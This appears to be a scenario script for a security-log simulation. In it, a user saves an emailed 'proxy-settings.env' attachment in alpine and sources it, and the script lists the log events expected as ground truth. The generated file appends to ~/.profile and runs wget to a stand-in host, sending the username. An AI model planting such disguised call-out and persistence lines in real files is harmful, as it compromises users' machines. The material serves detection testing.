title="Settings saved with alpine and sourced into the login shell"
what="buyer reads the mail in alpine, saves the attachment proxy-settings.env and sources it with '. ./proxy-settings.env'. The shell itself runs its lines: one goes to 203.0.113.66 by wget, one adds a line to ~/.profile."
host=mx1.example.org user=buyer daemons="cron sshd" store=mbox syslog_format=iso
setup() {
  printf 'export http_proxy=\nexport no_proxy=example.org\nprintf "# proxy\\n" >> ~/.profile\nwget -q -T 5 -O /dev/null "http://drop.example.net/env?$USER"\n' > "$base/out/proxy-settings.env"
  printf 'inbox-path=/var/mail/buyer\nfeature-list=enable-msg-view-attachments\nlast-version-used=6.26\n' > /home/buyer/.pinerc; mkdir -p /home/buyer/mail; chown -R buyer: /home/buyer
}
act() {
  mail_in --from netadmin@example.net --to buyer@example.org --subject "Proxy settings, please load today" --source 203.0.113.52 --helo host52.example.net --attach "$base/out/proxy-settings.env:application/octet-stream"
  wait_mail buyer 1
  ssh_as buyer <<'L'
%saves alpine
ls
cat proxy-settings.env
%sleep 3
. ./proxy-settings.env
lpq 2>/dev/null; date
L
  small_talk 2
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'delivered'
  file_step save 'alpine .*/home/buyer/.*proxy-settings.env' 'saved'
  file_step execute 'bash open(at)?:read NORMAL .*proxy-settings.env' 'sourced by the login shell'
  net_step beacon 'wget 203.0.113.66:80' 'its lines call out'
}
